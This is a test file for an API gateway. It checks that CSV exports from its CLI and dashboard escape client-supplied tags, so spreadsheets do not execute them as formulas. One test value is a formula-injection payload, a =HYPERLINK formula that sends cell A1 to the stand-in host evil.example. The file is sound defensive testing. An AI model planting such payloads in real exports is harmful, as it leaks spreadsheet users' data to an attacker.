import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { monthOf } from '../../events/budget.ts';
import { runCli } from '../support/cli.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import { json } from '../support/json.ts';

// A client chooses its tags, and a spreadsheet runs a cell that starts with =, +, - or @ as a formula. Every CSV
// the gateway writes (the CLI's export, the dashboard's usage.csv) must hand such a tag over as text.

const TAGS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', '-1+1', '+1', '@SUM(1;2)', 'plain'];

let gateway: TestGateway;
let accountId: string;
let key: string;

/** RFC 4180: fields separated by commas, quoted fields with doubled quotes, a line break after each record. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      if (c === '\r') i++;
    } else field += c;
  }
  expect(field, 'the last record ends with a line break').toBe('');
  return rows;
}

function column(rows: string[][], name: string): string[] {
  const [header, ...body] = rows;
  const at = (header ?? []).indexOf(name);
  expect(at, `column ${name}`).toBeGreaterThanOrEqual(0);
  return body.map((row) => row[at] as string);
}

/** A spreadsheet runs a cell as a formula when it starts with one of these (OWASP). */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

async function signIn(secret: string): Promise<string> {
  const form = await fetch(`${gateway.url}/dashboard/sign-in`);
  const nonce = (form.headers.get('set-cookie') ?? '').split(';')[0] as string;
  const token = /name="_token" value="([^"]+)"/.exec(await form.text())?.[1] ?? '';
  const signedIn = await fetch(`${gateway.url}/dashboard/sign-in`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: nonce, accept: 'text/html' },
    body: new URLSearchParams({ _token: token, key: secret }).toString(),
  });
  expect(signedIn.status).toBe(303);
  return (signedIn.headers.getSetCookie().find((c) => c.startsWith('gw_session=')) ?? '').split(
    ';',
  )[0] as string;
}

beforeAll(async () => {
  gateway = await startTestGateway();
  ({ account_id: accountId, key } = await json(await gateway.admin('/accounts', { name: 'Spreadsheet' })));
  await gateway.admin(`/accounts/${accountId}/top-ups`, { cents: 500, reference: 'p' });
  for (const tag of TAGS) {
    const response = await fetch(`${gateway.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', 'x-gw-tag': tag },
      body: JSON.stringify({ model: 'local/echo', messages: [{ role: 'user', content: `tagged ${tag}` }] }),
    });
    expect(response.status).toBe(200);
    await response.body?.cancel();
  }
});
afterAll(async () => {
  await gateway?.close();
});

describe('CSV cells a spreadsheet would run', () => {
  it('the CLI export writes every tag as text, and its amounts as numbers', async () => {
    const exported = await runCli(
      ['export', '--account', accountId, '--month', monthOf(new Date()), '--format', 'csv'],
      gateway.env,
    );
    expect(exported.code).toBe(0);
    expect(exported.stdout).toMatch(/\r\n$/);
    const rows = parseCsv(exported.stdout);
    const tags = column(rows, 'tag');
    expect(tags.sort()).toEqual(["'+1", "'-1+1", `'${TAGS[0]}`, "'@SUM(1;2)", 'plain'].sort());
    for (const cell of rows.flat()) expect(isFormula(cell), cell).toBe(false);
    for (const amount of [...column(rows, 'charged_nanos'), ...column(rows, 'charged_usd')])
      expect(amount).toMatch(/^\d+(?:\.\d{9})?$/);
  });

  it('the dashboard’s usage.csv writes every tag as text, and its amounts as numbers', async () => {
    const cookie = await signIn(key);
    const response = await fetch(`${gateway.url}/dashboard/usage.csv?by=tag`, { headers: { cookie } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await response.text();
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['month', 'tag', 'requests', 'units', 'cost_nanos', 'cost_usd']);
    expect(column(rows, 'tag').sort()).toEqual(["'+1", "'-1+1", `'${TAGS[0]}`, "'@SUM(1;2)", 'plain'].sort());
    for (const cell of rows.flat()) expect(isFormula(cell), cell).toBe(false);
    expect(column(rows, 'requests')).toEqual(['1', '1', '1', '1', '1']);
    // One writer for every CSV: RFC 4180's CRLF here too.
    expect(text).toMatch(/\r\n$/);
  });
});
